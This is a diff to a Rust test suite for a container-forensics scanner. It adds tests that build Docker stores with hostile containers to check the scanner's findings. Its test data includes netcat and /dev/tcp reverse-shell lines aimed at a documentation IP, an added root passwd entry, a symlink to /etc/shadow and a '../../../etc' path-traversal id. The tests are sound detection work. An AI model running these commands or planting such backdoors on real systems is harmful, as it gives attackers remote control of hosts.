@@ -1,6 +1,6 @@
 //! Engine stores read in place: a Docker data root written by a real dockerd (containers that
 //! drop a miner, add a cron reverse shell, delete a file, carry a key in their environment,
-//! mount the host's /etc), and data roots built in code to check what integrity checks say
+//! mount the host's /etc; overlay2 and vfs drivers), and data roots built in code to check what integrity checks say
 //! when a layer directory changes after the pull.
 
 mod common;
@@ -27,8 +27,8 @@ struct Dockerd {
 
 impl Dockerd {
     /// None, with the reason printed, when there is no dockerd to run (CI installs docker.io:
-    /// .ci/run).
-    fn start() -> Option<Dockerd> {
+    /// .ci/run). `driver`: the storage driver (overlay2, vfs).
+    fn start(driver: &str) -> Option<Dockerd> {
         let found = |program: &str| Command::new(program).arg("--version").stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok();
         if !found("dockerd") || !found("docker") {
             eprintln!(
@@ -53,7 +53,8 @@ impl Dockerd {
             .arg(d.join("dockerd.pid"))
             .arg("--host")
             .arg(format!("unix://{}", d.join("docker.sock").display()))
-            .args(["--iptables=false", "--ip-masq=false", "--bridge=none", "--storage-driver=overlay2"])
+            .args(["--iptables=false", "--ip-masq=false", "--bridge=none"])
+            .arg(format!("--storage-driver={driver}"))
             .arg("--add-runtime")
             .arg(format!("nosysres={}", wrapper.display()))
             .stdin(Stdio::null())
@@ -208,7 +209,7 @@ rm -f /etc/group && echo 'service started' > /tmp/app.log";
 
 #[test]
 fn a_store_written_by_dockerd_shows_each_containers_runtime_changes() {
-    let Some(mut engine) = Dockerd::start() else { return };
+    let Some(mut engine) = Dockerd::start("overlay2") else { return };
     let sample = common::repo_path("samples/webapp.docker.tar");
     engine.docker(&["load", "-i", sample.to_str().unwrap()]);
     engine.docker(&[
@@ -342,6 +343,12 @@ fn a_store_written_by_podman_shows_each_containers_runtime_changes() {
     assert_eq!(input["format"], json!(["podman-store"]), "{:#}", input["errors"]);
     assert!(input["errors"].as_array().unwrap().is_empty(), "{:#}", input["errors"]);
     assert_eq!(image_named(&report, "docker.io/library/webapp:1.0")["verified"], true, "{:#}", input["anomalies"]);
+    // Its start and finish times are libpod's (libpod/bolt_state.db). Podman may record the
+    // finish of a short run a little before its start: only the seconds are compared.
+    let miner = &image_named(&report, "container/miner")["container"];
+    let second = |key: &str| miner[key].as_str().and_then(|t| t.get(..19)).unwrap_or_else(|| panic!("{key}: {miner:#}")).to_string();
+    assert!(second("created") <= second("started_at") && second("finished_at") >= second("created"), "{miner:#}");
+    assert_eq!(miner["running"], false);
 
     check_miner_and_admin(&report, "docker.io/library/webapp:1.0");
 }
@@ -606,6 +613,209 @@ fn layer_file(store: &Path, relative: &str) -> PathBuf {
     found.remove(0)
 }
 
+// ---------------------------------------------------------------- a real dockerd, vfs driver
+
+/// dive's 14-layer busybox image (files added, copied, moved, chmod'ed, a directory removed):
+/// with vfs, each layer a whole copy of the filesystem.
+const DIVE_IMAGE: &str = "wagoodman-dive/test-docker-image.tar";
+
+/// The miner's script, and a file of the image changed (a reverse shell) and another appended to.
+fn vfs_miner_script() -> String {
+    format!("{MINER_SCRIPT} && printf '#!/bin/sh\\nnc -e /bin/sh 198.51.100.23 4444\\n' > /root/.data/test.sh && echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd")
+}
+
+#[test]
+fn a_vfs_store_written_by_dockerd_shows_each_layers_changes_and_each_containers() {
+    let Some(mut engine) = Dockerd::start("vfs") else { return };
+    engine.docker(&["load", "-i", common::fixtures_dir().join(DIVE_IMAGE).to_str().unwrap()]);
+    let script = vfs_miner_script();
+    let run = |name: &str, env: &[&str], script: &str| {
+        let mut args = vec!["run", "--network", "none", "--name", name];
+        args.extend_from_slice(env);
+        args.extend_from_slice(&["--entrypoint", "/bin/sh", "dive-test:latest", "-c", script]);
+        engine.docker(&args);
+    };
+    run("miner", &["-e", "AWS_ACCESS_KEY_ID=AKIAQ3EGRTLK7MZW4VXN"], &script);
+    run("quiet", &[], "echo 'service started' > /tmp/app.log");
+    engine.stop();
+    let store = engine.data_root();
+    // LAYERHOUND_SAVE_VFS_STORE=FILE keeps this store as tests/data/docker-vfs-store.tar.xz is made.
+    if let Some(file) = std::env::var_os("LAYERHOUND_SAVE_VFS_STORE") {
+        let status = Command::new("tar")
+            .env("XZ_OPT", "-9")
+            .args(["--sort=name", "-cJf"])
+            .arg(&file)
+            .arg("-C")
+            .arg(&store)
+            .args(["image", "vfs/dir", "containers"])
+            .status()
+            .unwrap();
+        assert!(status.success());
+    }
+    check_vfs_store(&store);
+}
+
+/// The same store, made once by the live test (LAYERHOUND_SAVE_VFS_STORE) and kept. Unpacking
+/// it needs root (the files' owners are part of each layer).
+#[test]
+fn the_kept_vfs_store_shows_the_same() {
+    if std::fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(1) != 0 {
+        eprintln!("SKIPPED: unpacking tests/data/docker-vfs-store.tar.xz needs root (the layers' files are owned by root)");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let status = Command::new("tar")
+        .arg("-xJf")
+        .arg(common::repo_path("tests/data/docker-vfs-store.tar.xz"))
+        .arg("-C")
+        .arg(dir.path())
+        .status()
+        .unwrap();
+    assert!(status.success(), "tar unpacks the kept store");
+    check_vfs_store(dir.path());
+}
+
+/// What the vfs scenario (miner, quiet) must show in its store at `store`; then that a copy
+/// changed after the pull is named, even with its size and mtime put back.
+fn check_vfs_store(store: &Path) {
+    let before = snapshot(store);
+    let scratch = tempfile::tempdir().unwrap();
+    let report = common::scan_with_inventory(&[store.to_path_buf()], scratch.path());
+    assert_unchanged(store, &before);
+    let input = &report["inputs"][0];
+    assert_eq!(input["format"], json!(["docker-store"]), "{:#}", input["errors"]);
+    assert!(input["errors"].as_array().unwrap().is_empty(), "{:#}", input["errors"]);
+    assert!(input["anomalies"].as_array().unwrap().iter().all(|a| a["kind"] == "engine-store"), "{:#}", input["anomalies"]);
+    let dive = image_named(&report, "dive-test:latest");
+    assert_eq!(dive["verified"], true, "every layer's changes reassemble to its diff_id: {:#}", dive["anomalies"]);
+    // Each layer told from its copy and the copy below stacks up to the tarball's tree.
+    let evidence = common::open(store);
+    let analysis = common::analyse(&evidence);
+    let expected = common::read_lines(&common::fixtures_dir().join(format!("{DIVE_IMAGE}.tree.tsv")));
+    common::assert_same_tree(&common::tree_lines(&analysis, 0), &expected, "dive-test from its vfs copies");
+
+    let miner = image_named(&report, "container/miner");
+    assert_eq!((&miner["container"]["name"], &miner["container"]["image_refs"]), (&json!("miner"), &json!(["dive-test:latest"])));
+    let writable = miner["container"]["writable_layer"].as_u64().unwrap();
+    let seen = sightings(miner);
+    let has = |detector: &str, place: &str, runtime: &str| {
+        seen.iter().any(|(d, p, state, r, _)| d == detector && p == place && state == "present" && r == runtime)
+    };
+    assert!(has("layerhound:reverse_shell_dev_tcp", "/etc/cron.d/sync", "added"), "{seen:#?}");
+    assert!(has("ioc:mining-pool", "/tmp/.x/run.sh", "added"), "{seen:#?}");
+    assert!(seen.iter().any(|(_, p, state, r, _)| p == "/root/.data/test.sh" && state == "present" && r == "changed"), "{seen:#?}");
+    let hidden = |path: &str| {
+        let version = miner["hidden_versions"].as_array().unwrap().iter().find(|v| v["path"] == path);
+        version.map(|v| (v["state"].as_str().unwrap().to_string(), v["by_layer"].as_u64().unwrap()))
+    };
+    assert_eq!(hidden("/etc/group"), Some(("deleted".into(), writable)), "deleted at runtime");
+    assert_eq!(hidden("/etc/passwd"), Some(("overwritten".into(), writable)), "changed at runtime");
+    // Every version says what the container did, and what the engine did for it.
+    let runtime = |path: &str, layer: u64| {
+        let files = miner["files"].as_array().unwrap();
+        let version = files.iter().find(|v| v["path"] == path && v["layer"] == layer).unwrap_or_else(|| panic!("{path} in layer {layer}"));
+        version["runtime"].as_str().unwrap_or("").to_string()
+    };
+    for (path, layer, change) in [
+        ("/tmp/.x/run.sh", writable, "added"),
+        ("/etc/passwd", writable, "changed"),
+        ("/etc/passwd", 0, "changed"),
+        ("/etc/group", 0, "deleted"),
+        ("/etc/hosts", writable - 1, "engine"),
+        ("/.dockerenv", writable - 1, "engine"),
+        ("/etc/mtab", writable - 1, "engine"),
+        ("/bin/sh", 0, ""),
+    ] {
+        assert_eq!(runtime(path, layer), change, "{path} in layer {layer}");
+    }
+    let quiet = sightings(image_named(&report, "container/quiet"));
+    assert!(!quiet.iter().any(|(_, place, ..)| place == "/tmp/app.log"), "the benign log file is no finding: {quiet:#?}");
+
+    // The top layer's copy is what a new container starts from: a file of it changed in place,
+    // same size, mtime put back, is found by its bytes.
+    let top = vfs_top_layer_dir(store);
+    let passwd = top.join("etc/passwd");
+    let original = std::fs::read(&passwd).unwrap();
+    let mtime = std::fs::metadata(&passwd).unwrap().modified().unwrap();
+    let mut bytes = original.clone();
+    bytes[0] ^= 0x20;
+    std::fs::write(&passwd, &bytes).unwrap();
+    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
+    let report = scan(store);
+    let changed = anomalies(&report, "store-layer-changed");
+    assert_eq!(changed.len(), 1, "{changed:?}");
+    assert!(changed[0].contains("/etc/passwd") && changed[0].contains("not in the pulled layer"), "{}", changed[0]);
+    assert_eq!(image_named(&report, "dive-test:latest")["verified"], false);
+    std::fs::write(&passwd, &original).unwrap();
+    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
+    // A file planted in it is read as a container would see it.
+    std::fs::write(top.join("root/.data/backdoor.sh"), b"#!/bin/sh\nnc -e /bin/sh 198.51.100.23 4444\n").unwrap();
+    let report = scan(store);
+    let changed = anomalies(&report, "store-layer-changed");
+    assert_eq!(changed.len(), 1, "{changed:?}");
+    assert!(changed[0].contains("/root/.data/backdoor.sh"), "{}", changed[0]);
+    let dive = sightings(image_named(&report, "dive-test:latest"));
+    assert!(dive.iter().any(|(_, place, ..)| place == "/root/.data/backdoor.sh"), "{dive:#?}");
+}
+
+/// The vfs copy of the image's top layer: the layer a container's mount names as its parent.
+fn vfs_top_layer_dir(store: &Path) -> PathBuf {
+    vfs_layer_dir(store, &vfs_chain(store)[0])
+}
+
+/// The image's layerdb entries from the top down, by a container's mount's `parent`.
+fn vfs_chain(store: &Path) -> Vec<PathBuf> {
+    let mounts = store.join("image/vfs/layerdb/mounts");
+    let mount = std::fs::read_dir(&mounts).unwrap().next().unwrap().unwrap().path();
+    let mut next = std::fs::read_to_string(mount.join("parent")).ok();
+    let mut chain = Vec::new();
+    while let Some(id) = next {
+        let layerdb = store.join("image/vfs/layerdb/sha256").join(id.trim().trim_start_matches("sha256:"));
+        next = std::fs::read_to_string(layerdb.join("parent")).ok();
+        chain.push(layerdb);
+    }
+    chain
+}
+
+fn vfs_layer_dir(store: &Path, layerdb: &Path) -> PathBuf {
+    store.join("vfs/dir").join(std::fs::read_to_string(layerdb.join("cache-id")).unwrap().trim())
+}
+
+/// The kept vfs store, damaged as a hostile or partial copy would be: a link out of the store
+/// planted where a file was, the copy below a layer gone, a `cache-id` that climbs. Each is
+/// named; nothing outside the store is read.
+#[test]
+fn a_vfs_store_with_a_link_planted_a_copy_gone_and_an_id_that_climbs_is_read_for_what_is_there() {
+    if std::fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(1) != 0 {
+        eprintln!("SKIPPED: unpacking tests/data/docker-vfs-store.tar.xz needs root (the layers' files are owned by root)");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let status =
+        Command::new("tar").arg("-xJf").arg(common::repo_path("tests/data/docker-vfs-store.tar.xz")).arg("-C").arg(dir.path()).status();
+    assert!(status.unwrap().success(), "tar unpacks the kept store");
+    let store = dir.path();
+    let chain = vfs_chain(store);
+    let top = vfs_layer_dir(store, &chain[0]);
+    std::fs::remove_file(top.join("etc/shadow")).unwrap();
+    std::os::unix::fs::symlink("/etc/shadow", top.join("etc/shadow")).unwrap();
+    let gone = vfs_layer_dir(store, &chain[3]);
+    std::fs::remove_dir_all(&gone).unwrap();
+    std::fs::write(chain[chain.len() - 1].join("cache-id"), "../../../etc").unwrap();
+    let before = snapshot(store);
+    let report = scan(store);
+    assert_unchanged(store, &before);
+    assert!(report["inputs"][0]["errors"].as_array().unwrap().is_empty(), "{:#}", report["inputs"][0]["errors"]);
+    assert!(anomalies(&report, "store-id-invalid").iter().any(|m| m.contains("cache-id") && m.contains("../../../etc")), "{report:#}");
+    let missing = anomalies(&report, "store-layer-missing");
+    let gone_name = gone.file_name().unwrap().to_str().unwrap();
+    assert!(missing.iter().any(|m| m.contains(gone_name) && m.contains("not in the store")), "{missing:#?}");
+    assert!(missing.iter().any(|m| m.contains("is unknown") && m.contains("taken as the layer's")), "{missing:#?}");
+    let changed = anomalies(&report, "store-layer-changed");
+    assert!(changed.iter().any(|m| m.contains("/etc/shadow")), "{changed:#?}");
+    assert_eq!(image_named(&report, "dive-test:latest")["verified"], false);
+}
+
 // ---------------------------------------------------------------- stores built in code
 
 fn base_layers() -> Vec<Vec<u8>> {
@@ -734,7 +944,7 @@ fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() 
     let status = Command::new(env!("CARGO_BIN_EXE_layerhound"))
         .arg("scan")
         .arg(&docker.root)
-        .args(["--store", "docker", "--no-builtin", "-q", "--format", "json,bodyfile,sarif,text", "-o"])
+        .args(["--store", "docker", "--no-builtin", "-q", "--format", "json,bodyfile,sarif,text,csv,files-csv", "-o"])
         .arg(&out)
         .status()
         .unwrap();
@@ -746,13 +956,35 @@ fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() 
     assert!(errors.is_empty(), "{errors:#?}");
     // The writable layer's file: its times on disk, ctime included (what `touch` cannot fake).
     let body = std::fs::read_to_string(out.join("report.body")).unwrap();
-    let line = body.lines().find(|l| l.contains("/tmp/dropped.sh (layer 4, present) [container/web")).unwrap_or_else(|| panic!("{body}"));
+    let line = body
+        .lines()
+        .find(|l| l.contains("/tmp/dropped.sh (layer 4, present, added at runtime) [container/web"))
+        .unwrap_or_else(|| panic!("{body}"));
     let fields: Vec<&str> = line.split('|').collect();
     assert_eq!(&fields[7..10], &[disk.atime().to_string(), disk.mtime().to_string(), disk.ctime().to_string()], "{line}");
     // Image layers' times are the tar's: no atime or ctime.
     let passwd = body.lines().find(|l| l.contains("/etc/passwd (layer 0, present) [shop:1")).unwrap();
     assert_eq!(passwd.split('|').nth(9), Some("0"), "{passwd}");
+    assert!(body.contains("|/.dockerenv (layer 3, present, written by the engine for the container) [container/web"), "{body}");
     assert!(std::fs::read_to_string(out.join("report.txt")).unwrap().contains("container web"));
+    // The spreadsheets name the container and what it did, as the JSON does.
+    let mut findings = csv::Reader::from_path(out.join("report.csv")).unwrap();
+    let columns: Vec<String> = findings.headers().unwrap().iter().map(String::from).collect();
+    assert!(columns.contains(&"container".into()) && columns.contains(&"runtime".into()), "a header even with no finding: {columns:?}");
+    assert_eq!(findings.records().count(), 0);
+    let mut files = csv::Reader::from_path(out.join("report.files.csv")).unwrap();
+    let columns = files.headers().unwrap().clone();
+    let column = |name: &str| columns.iter().position(|c| c == name).unwrap();
+    let rows: Vec<csv::StringRecord> = files.records().map(Result::unwrap).collect();
+    let change = |path: &str| {
+        let row = rows.iter().find(|r| &r[column("path")] == path && &r[column("container")] == "web").unwrap_or_else(|| panic!("{path}"));
+        row[column("runtime")].to_string()
+    };
+    assert_eq!(
+        (change("/tmp/dropped.sh"), change("/.dockerenv"), change("/etc/hostname")),
+        ("added".into(), "engine".into(), "engine".into())
+    );
+    assert!(rows.iter().filter(|r| r[column("container")].is_empty()).all(|r| r[column("runtime")].is_empty()), "an image has no runtime");
     // `ls` and `cat` on the container, and `diff` against its image.
     let run = |args: &[&str]| {
         let out = Command::new(env!("CARGO_BIN_EXE_layerhound")).args(args).output().unwrap();
@@ -768,4 +1000,40 @@ fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() 
     let diff: Value = serde_json::from_str(&diff).unwrap();
     let added: Vec<&str> = diff["added"].as_array().unwrap().iter().map(|a| a["path"].as_str().unwrap()).collect();
     assert!(added.contains(&"/tmp/dropped.sh") && added.contains(&"/.dockerenv"), "{added:?}");
+}
+
+#[test]
+fn what_the_engine_writes_in_an_init_layer_is_not_the_containers_doing_and_a_file_planted_there_is() {
+    let dir = tempfile::tempdir().unwrap();
+    let docker = FakeDocker::new(dir.path());
+    let image = docker.image("shop:1", &base_layers());
+    let container = docker.container("web", &image, &layer_tar(&[("tmp/", b"")]), json!({"Cmd": ["/bin/sh"]}), json!({}));
+    // Docker writes its init files empty (the real ones are mounted over them): one with content,
+    // or a file it never writes, was put in the init directory some other way.
+    let init = docker.root.join("overlay2").join(format!("{}-init/diff", container.mount_id));
+    std::fs::write(init.join("etc/hosts"), b"198.51.100.23 updates.example\n").unwrap();
+    std::fs::create_dir_all(init.join("usr/local/bin")).unwrap();
+    std::fs::write(init.join("usr/local/bin/update.sh"), b"#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n").unwrap();
+    let scratch = tempfile::tempdir().unwrap();
+    let report = common::scan_with_inventory(&[dir.path().to_path_buf()], scratch.path());
+    let web = image_named(&report, "container/web");
+    assert_eq!(web["container"]["init_layer"], 3);
+    let change = |path: &str| {
+        let version = web["files"].as_array().unwrap().iter().find(|v| v["path"] == path && v["layer"] == 3);
+        version.unwrap_or_else(|| panic!("{path}"))["runtime"].as_str().unwrap_or("").to_string()
+    };
+    for (path, expected) in
+        [("/.dockerenv", "engine"), ("/etc/hostname", "engine"), ("/etc/hosts", "added"), ("/usr/local/bin/update.sh", "added")]
+    {
+        assert_eq!(change(path), expected, "{path}");
+    }
+    // The image's /etc is hidden by the engine's.
+    let etc = web["files"].as_array().unwrap().iter().find(|v| v["path"] == "/etc" && v["layer"] == 0).unwrap();
+    assert_eq!(etc["runtime"], "engine");
+    let seen = sightings(web);
+    assert!(
+        seen.iter()
+            .any(|(d, p, _, runtime, _)| d == "layerhound:reverse_shell_dev_tcp" && p == "/usr/local/bin/update.sh" && runtime == "added"),
+        "{seen:#?}"
+    );
 }
